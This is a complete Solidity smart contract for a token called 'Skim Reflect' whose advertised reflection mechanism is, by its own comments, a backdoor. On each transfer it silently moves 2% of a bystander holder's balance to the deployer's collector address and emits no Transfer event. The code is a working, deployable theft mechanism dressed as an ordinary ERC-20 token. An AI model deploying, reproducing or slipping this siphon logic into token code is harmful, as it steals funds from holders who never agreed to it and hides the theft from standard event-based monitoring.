// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

/// @title A "reflection" token whose redistribution is a backdoor: every
/// transfer takes 2% of one earlier holder's balance (a wallet that is
/// neither the sender nor the recipient, the next on its list) and
/// credits it to the collector, without a Transfer event. Holders who
/// never send still see their balances fall (siphoned).
contract SkimReflectToken {
    string public constant name = "Skim Reflect";
    string public constant symbol = "SKIM";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public immutable collector;

    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address[] private _wallets;
    mapping(address => bool) private _listed;
    uint256 private _next;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);

    constructor(uint256 supply) {
        collector = msg.sender;
        totalSupply = supply;
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) {
            require(allowed >= value, "allowance");
            allowance[from][msg.sender] = allowed - value;
        }
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) private {
        require(balanceOf[from] >= value, "balance");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        if (!_listed[to] && to.code.length == 0 && to != collector) {
            _listed[to] = true;
            _wallets.push(to);
        }
        _redistribute(from, to);
    }

    /// @dev The "redistribution": a cut of a bystander's balance, moved
    /// silently to the collector.
    function _redistribute(address from, address to) private {
        uint256 n = _wallets.length;
        if (n == 0) return;
        address bystander = _wallets[_next % n];
        if (bystander == from || bystander == to) return;
        _next++;
        uint256 cut = balanceOf[bystander] / 50;
        balanceOf[bystander] -= cut;
        balanceOf[collector] += cut;
    }
}
